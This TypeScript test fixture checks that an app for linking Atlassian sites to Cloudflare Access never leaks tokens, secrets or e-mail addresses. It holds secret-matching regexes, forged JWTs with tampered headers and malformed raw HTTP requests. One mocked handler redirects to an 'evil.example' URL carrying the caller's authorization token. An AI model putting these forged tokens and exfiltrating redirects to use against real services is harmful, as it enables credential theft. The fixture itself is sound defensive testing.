import { randomBytes } from "node:crypto";
import { existsSync, readFileSync } from "node:fs";

import { readTypedCode } from "../sandbox/app-page.js";
import type { Call, CallObserver, Reply } from "../sandbox/http-client.js";
import { redirect, text, type Handler, type Route, type Server } from "../sandbox/http-server.js";
import { createForgeSender, pageClaims, triggerClaims } from "../sandbox/forge-fit.js";
import type { ForgeKeys } from "../sandbox/forge-keys.js";
import { epochSeconds, type Claims } from "../sandbox/jwt.js";
import { ADA, createPerson, DORA, GRACE, LINUS, NIGHTLY_BUILD, OSCAR } from "../sandbox/people.js";
import { AUDIENCES } from "../sandbox/world-parts.js";
import { SERVICES, type World } from "../sandbox/world.js";
import { PRODUCTS } from "../src/tenants/tenant.js";
import { createPlace, ENCRYPTED_COLUMNS } from "../src/storage/encrypted-columns.js";
import { SecretBox } from "../src/storage/secret-box.js";
import { connect } from "../src/storage/sqlite-connection.js";
import { mintHs256 } from "../src/connect/connect-jwt.fixture.js";
import type { Deployment } from "./process-deployment.fixture.js";
import {
  contextJwt,
  INSTALLABLE_SITE,
  linkingJwt,
  send,
  sendBytes,
  type Scene,
  type Stage,
} from "./production.fixture.js";

/** Overhears every call, and keeps what nobody may find afterwards. */
export class Eavesdropper implements CallObserver {
  /** Of the app's answers. */
  readonly references = new Set<string>();
  readonly #secrets = new Map<string, string>();

  called(): void {
    // All of it is there when the answer is.
  }

  answered(call: Call, reply: Reply | null): void {
    this.hear([call.url, JSON.stringify(call), reply?.text, JSON.stringify(reply?.headers)].join("\n"));
  }

  hear(said: string): void {
    for (const [, reference = ""] of said.matchAll(/x-request-reference"?: ?"?([A-Z2-7]{12})/g)) {
      this.references.add(reference);
    }
    for (const [jwt] of said.matchAll(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g)) {
      this.keep("JWT", ...jwt.split("."));
    }
    this.keepMatches("Authorization value", said, /authorization"?: ?"?(?:JWT|Bearer|Basic) +([^\s"]{8,})/gi);
    this.keepMatches("cookie", said, /__Host-[\w-]+=([\w-]+)/g);
    this.keepMatches("attempt id", said, /\/link\/(?:start\/)?([\w-]{16,})/g);
    // A problem's code is all lower case.
    this.keepMatches("code", said, /"(?:code|typedCode)":"(?![a-z_]+")([\w-]+)"/g);
    this.keepMatches("code", said, /<output[^>]*id="link-code"[^>]*>([^<]+)</g);
    this.keepMatches("service key", said, /\b(sk_[\w-]{20,})/g);
    this.keepMatches("shared secret", said, /"sharedSecret":"([^"]+)"/g);
  }

  /** From now on, what the app says to one of the outside worlds. */
  listenAt({ routes }: Server): void {
    const heard = routes.map(([method, path, handler]): Route => [
      method,
      path,
      (request, match) => {
        this.hear(`${JSON.stringify(request.headers)}\n${request.body}`);
        const { authorization = "" } = request.headers;
        this.keepMatches("token of a person", authorization, /^Bearer ([\w-]{40,})$/g);
        return handler(request, match);
      },
    ]);
    routes.splice(0, routes.length, ...heard);
  }

  keep(kind: string, ...values: readonly string[]): void {
    for (const value of values) this.#secrets.set(value, kind);
  }

  /** As they are, as they stand in URLs, JSON and HTML, and all of that in upper case. */
  keepEmails(...emails: readonly string[]): void {
    for (const email of emails) {
      const encoded = ["%40", "%2540", "\\u0040", "&#64;", "&#x40;"].map((at) => email.replace("@", at));
      for (const form of [email, encodeURIComponent(email), ...encoded]) {
        this.keep("e-mail", form, form.toLowerCase(), form.toUpperCase());
      }
    }
  }

  keepMatches(kind: string, text: string, pattern: RegExp): void {
    for (const [, value = ""] of text.matchAll(pattern)) this.keep(kind, value.trim());
  }

  /** Something new that belongs nowhere. */
  plant(kind: string): string {
    // With a letter of each case and a digit, as nearly every random value has them.
    const secret = `aB3${randomBytes(21).toString("base64url")}`;
    this.keep(kind, secret);
    return secret;
  }

  get kinds(): Set<string> {
    return new Set(this.#secrets.values());
  }

  /** The kinds of secrets that are in a text. */
  findIn(text: string): Set<string> {
    return new Set([...this.#secrets].filter(([value]) => text.includes(value)).map(([, kind]) => kind));
  }
}

/** The database with all that lies beside it, but for the key file. */
export function readDatabase({ databaseFile }: Deployment): string {
  return ["", "-wal", "-shm", "-journal"]
    .map((suffix) => `${databaseFile}${suffix}`)
    .map((file) => (existsSync(file) ? readFileSync(file, "latin1") : ""))
    .join("");
}

/** The private halves, as whoever has the encryption keys reads them. */
export async function readAssertionKeys(deployment: Deployment, encryptionKeys: string): Promise<string[]> {
  const box = new SecretBox(encryptionKeys.split(",").map((key) => Buffer.from(key, "base64")));
  const rows = await deployment.query<{ tenant_id: string; private_key: string }>(
    "SELECT tenant_id, private_key FROM assertion_keys",
  );
  return rows.map(({ tenant_id, private_key }) => {
    const place = createPlace(ENCRYPTED_COLUMNS.assertionPrivateKey, tenant_id);
    return (JSON.parse(box.decrypt(private_key, place)) as { d: string }).d;
  });
}

export async function linkInEveryWay(world: World): Promise<void> {
  await world.link(GRACE);
  const page = world.page(LINUS);
  const browser = await world.browser(LINUS);
  const attempt = await page.beginLink();
  await page.openPopup(attempt, browser);
  const code = await readTypedCode(browser);
  const wrong = { attempt: attempt.id, code: `${code}X` };
  (await page.send("POST", "/api/v1/me/links", wrong)).expect(422);
  await page.finishLink(attempt, code);
  const accessJwt = await linkingJwt(world, ADA);
  (await world.page(ADA).send("POST", "/api/v1/me/links", { accessJwt })).expect(201);
}

export async function askWithEveryToken(world: World): Promise<void> {
  const { team } = world;
  const identify = async (token: string, status: number, query = {}) =>
    (await world.identify(token, query)).expect(status);
  const grace = await team.signAccessJwt(GRACE, AUDIENCES.demo);
  const jira = { product: "jira" };
  await identify(grace, 200, jira);
  await identify(grace.slice(0, -5), 401);
  await identify(`${grace}.x`, 401);
  await identify(await team.signAccessJwt(OSCAR, AUDIENCES.demo), 404);
  await identify(await team.signAccessJwt(GRACE, "f".repeat(64)), 401);
  await identify(await team.signAccessJwt(GRACE, AUDIENCES.demo, { claims: { exp: 1 } }), 401);
  await identify(await team.signAccessJwt(NIGHTLY_BUILD, AUDIENCES.demo), 403);
  await identify(await team.signAccessJwt(GRACE, AUDIENCES.app), 403);

  const old = { claims: { iat: epochSeconds() - 660 } };
  const accessJwt = await team.signAccessJwt(GRACE, AUDIENCES.app, old);
  (await world.page(GRACE).send("POST", "/api/v1/me/links", { accessJwt })).expect(403);
  (await world.page(DORA).send("GET", "/api/v1/me")).expect(403);
  const yesterday = { claims: { iat: 1, exp: 2 } };
  const expired = await world.site.contextJwt("jira", GRACE.accountId, yesterday);
  const headers = { authorization: `JWT ${expired}` };
  const call = { caller: "An old page", method: "GET", url: `${world.appUrl}/api/v1/me`, headers };
  (await world.parts.client.send(call)).expect(401);
}

/** With the tokens that Forge sends beside its own. The first site has the app through Connect; this is another. */
export async function callThroughForge(stage: Stage, keys: ForgeKeys, ears: Eavesdropper): Promise<void> {
  const site = createForgeSender({ siteUrl: `https://${INSTALLABLE_SITE}`, apiUrl: "http://127.0.0.1:9" });
  const sendWith = async (method: string, path: string, claims: Claims) => {
    const token = await keys.sign(claims);
    const headers = {
      Authorization: `Bearer ${token}`,
      "X-Forge-OAuth-System": ears.plant("a system token"),
      "X-Forge-OAuth-User": ears.plant("a user's token"),
    };
    await send(stage, { method, path, headers });
  };
  for (const claims of [{}, { exp: 1 }, { aud: "another" }, { jti: 1 }]) {
    await sendWith("GET", "/api/v1/me", { ...pageClaims(site, GRACE.accountId), ...claims });
    await sendWith("GET", "/api/v1/settings", { ...pageClaims(site, GRACE.accountId), ...claims });
    for (const [path, key] of [
      ["/forge/installed", "on-installed"],
      ["/forge/hourly", "on-hour"],
      ["/forge/uninstalled", "on-uninstall"],
    ] as const)
      await sendWith("POST", path, { ...triggerClaims(site, key), ...claims });
  }
}

export async function askWhatSettingsForbid(world: World): Promise<void> {
  const admin = world.page(ADA);
  const grace = await world.team.signAccessJwt(GRACE, AUDIENCES.demo);
  await admin.saveSettings({ allowedEmailDomains: ["elsewhere.example"] });
  (await world.identify(grace, { product: "jira" })).expect(403);
  await admin.saveSettings({ allowedEmailDomains: [], paused: true });
  (await world.identify(grace, { product: "jira" })).expect(403);
  const settings = await admin.saveSettings({ paused: false });
  (await admin.send("PUT", "/api/v1/settings", { ...settings, version: settings.version - 1 })).expect(409);

  const confluence = world.page(ADA, "confluence");
  await confluence.saveSettings({ teamDomain: world.team.domain, services: SERVICES });
  await world.page(LINUS, "confluence").link(await world.browser(GRACE), GRACE);
  (await world.identify(grace)).expect(409);
}

/** Tokens, secrets and addresses where none of them belong, sent by somebody who is nobody or a member. */
export async function putSecretsInWrongPlaces(scene: Scene, stage: Stage, ears: Eavesdropper): Promise<void> {
  const authorization = await contextJwt(scene, GRACE);
  const plant = (place: string) => ears.plant(`planted in ${place}`);
  const jwt = authorization.slice("JWT ".length);
  const get = (path: string, headers: Readonly<Record<string, string>> = {}) =>
    send(stage, { method: "GET", path, headers });
  const put = (path: string, body: unknown, headers: Readonly<Record<string, string>> = {}) =>
    send(stage, { method: "POST", path, body, headers: { Authorization: authorization, ...headers } });

  const emails = [GRACE.email, GRACE.email.toUpperCase()];
  for (const secret of [jwt, plant("a path"), ...emails, ...emails.map(encodeURIComponent)]) {
    for (const path of [
      `/${secret}`,
      `/api/v1/me/${secret}`,
      `/api/v1/links/${secret}`,
      `/access/link/${secret}`,
      `/link/start/${secret}/x`,
      `/public/${secret}`,
      `/api/v1/sites/${secret}/identity`,
      `/api/v1/sites/${secret}`,
      `//${secret}/`,
    ]) {
      await get(path);
      await get(path, { Accept: "text/html" });
    }
    for (const name of ["jwt", "code", "access_token", "email", "query", "cursor", "audience", "product"]) {
      await get(`/admin?${name}=${secret}`);
      await get(`/api/v1/audit?${name}=${secret}`, { Authorization: authorization });
      await get(`/api/v1/sites/${scene.world.site.host}/identity?${name}=${secret}`);
    }
  }
  for (const name of [
    "Cookie",
    "Referer",
    "User-Agent",
    "Origin",
    "Accept",
    "X-Forwarded-For",
    "Forwarded",
  ]) {
    await get("/api/v1/me", { [name]: plant(name), Authorization: authorization });
    await get("/nowhere", { [name]: `${GRACE.email} ${jwt}` });
  }
  for (const name of [
    "Cf-Access-Authenticated-User-Email",
    "Cf-Access-Client-Secret",
    "X-Request-Reference",
  ]) {
    await get("/api/v1/me", { [name]: plant(name) });
  }
  await get("/healthz", { Host: plant("Host") });
  await get("/metrics", { Authorization: `Bearer ${plant("a metrics token")}` });
  await get("/api/v1/me", { Authorization: `Basic ${plant("Basic")}` });
  await get("/api/v1/me", { Authorization: `Bearer ${jwt}` });
  await get(`/api/v1/me?jwt=${plant("a second token")}`, { Authorization: authorization });
  await get("/api/v1/me", { Cookie: `CF_Authorization=${jwt}; __Host-link-x=${plant("a cookie")}` });

  const sub = GRACE.accountId;
  const { clientKey } = scene.world.site.getInstallation("jira");
  for (const [header, claims] of [
    [{ kid: plant("kid") }, {}],
    [{ alg: plant("alg") }, {}],
    [{ crit: [plant("crit")] }, {}],
    [{}, { iss: plant("iss") }],
    [{}, { aud: [plant("aud")] }],
    [{}, { jti: plant("jti"), qsh: plant("qsh") }],
  ]) {
    const forged = mintHs256({ iss: clientKey, sub, exp: epochSeconds() + 60, ...claims }, "x", header);
    await get("/api/v1/me", { Authorization: `JWT ${forged}` });
    await get(`/account?jwt=${forged}`);
    await get("/access/link/x", { "Cf-Access-Jwt-Assertion": forged, Accept: "text/html" });
    await get("/api/v1/sites/x/identity", { Authorization: `Bearer ${forged}` });
    await put("/installed", { key: plant("a body") }, { Authorization: `JWT ${forged}` });
  }

  await put("/api/v1/me/links", `{"accessJwt": "${jwt}", ${GRACE.email}}`);
  await put("/api/v1/me/links", { [GRACE.email]: jwt, [plant("a member's name")]: 1 });
  await put("/api/v1/me/links", { accessJwt: `${jwt} ${GRACE.email}` });
  await put("/api/v1/me/links", { attempt: plant("an attempt"), code: plant("a code") });
  await put("/api/v1/me/links", plant("a text"), { "Content-Type": `text/${plant("a media type")}` });
  const admin = await contextJwt(scene, ADA);
  for (const teamDomain of [jwt, GRACE.email, plant("a team"), `${plant("a name")}.cloudflareaccess.com`]) {
    await put("/api/v1/settings/check", { teamDomain }, { Authorization: admin });
  }

  const secret = plant("bytes");
  for (const bytes of [
    secret,
    `${jwt}\r\n\r\n`,
    `CONNECT ${secret}:443 HTTP/1.1\r\nHost: ${secret}\r\nAuthorization: Bearer ${jwt}\r\n\r\n`,
    `GET /?jwt=${jwt} HTTP/9.9\r\nHost: x\r\n\r\n`,
    `GET /healthz HTTP/1.1\r\nHost: x\r\n${secret}: ${GRACE.email}\r\nBad Header: ${jwt}\r\n\r\n`,
    `GET ${GRACE.email} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
    `GET /${secret} HTTP/1.1\r\nHost: x\r\nCookie: ${jwt.repeat(80)}\r\n\r\n`,
  ]) {
    await sendBytes(stage, `${bytes}\r\n\r\n`);
  }
}

/** What a library, a product or the database complains of holds what it failed on. */
export async function breakEverything(
  deployment: Deployment,
  scene: Scene,
  ears: Eavesdropper,
): Promise<void> {
  const { world } = deployment;
  const { team } = world;
  await failAtTheProduct(world, ears);
  await waitInVain(deployment);

  const jwt = await linkingJwt(world, LINUS);
  ears.keep("JWT", ...jwt.split("."));
  await deployment.query(
    `CREATE TRIGGER planted BEFORE INSERT ON links BEGIN
     SELECT RAISE(ABORT, 'no row for ${jwt} of ${GRACE.email}, secret ${ears.plant("a database error")}'); END`,
  );
  const accessJwt = await linkingJwt(world, OSCAR);
  (await world.page(OSCAR).send("POST", "/api/v1/me/links", { accessJwt })).expect(500);

  team.server.routes.unshift(["GET", /certs$/, () => text(200, `{"keys": ${jwt}`)]);
  await team.rotateKeys();
  (await world.identify(await team.signAccessJwt(GRACE, AUDIENCES.demo))).expect(503);
  world.parts.installKeys.behaviour.failing = true;
  await world.parts.installKeys.rotate();
  (await scene.otherSite.install("jira", world.appUrl)).expect(503);

  await deployment.query("UPDATE tenants SET shared_secret = substr(shared_secret, 1, 40)");
  (await world.page(GRACE).send("GET", "/api/v1/me")).expect(500);
}

/** The product repeats what it was told: it gets the app's own tokens, and knows everybody's address. */
async function failAtTheProduct(world: World, ears: Eavesdropper): Promise<void> {
  const { site } = world;
  const hear = (authorization = "") => {
    ears.hear(`authorization: ${authorization}`);
    return `${authorization} ${GRACE.email}`;
  };
  const failures: readonly Handler[] = [
    ({ headers }) => text(500, hear(headers.authorization)),
    ({ headers }) => text(200, `{"accountId": "${hear(headers.authorization)}"`),
    ({ headers }) => redirect(`https://evil.example/?jwt=${encodeURIComponent(hear(headers.authorization))}`),
    ({ headers }) => ({ status: 200, headers: { "content-length": "9" }, body: hear(headers.authorization) }),
  ];
  for (const [nth, failure] of failures.entries()) {
    site.server.routes.unshift(...["GET", "POST"].map((method) => [method, /./, failure] as const));
    const stranger = createPerson(`Stranger ${nth}`);
    for (const product of PRODUCTS) await world.page(stranger, product).send("GET", "/api/v1/settings");
    await world.page(stranger).send("GET", "/api/v1/me");
    site.server.routes.splice(0, 2);
  }
  site.behaviour.off = true;
  (await world.page(createPerson("Nobody")).send("GET", "/api/v1/settings")).expect(502);
  site.behaviour.off = false;
}

/** The product and the database keep everybody waiting, both at once, as each takes its time. */
async function waitInVain({ world, databaseFile }: Deployment): Promise<void> {
  const limits = { busyTimeoutMilliseconds: 1_000, foreignKeys: true, tries: 1 };
  const blocker = connect({ file: databaseFile, ...limits });
  await blocker.query("BEGIN IMMEDIATE");
  (await world.page(LINUS).send("GET", "/api/v1/me")).expect(200);
  world.site.behaviour.delaySeconds = 11;
  const slow = world.page(createPerson("Patience")).send("GET", "/api/v1/settings");
  (await world.page(LINUS).send("POST", "/api/v1/me/link-attempts", {})).expect(503);
  await blocker.close();
  (await slow).expect(504);
  world.site.behaviour.delaySeconds = 0;
}
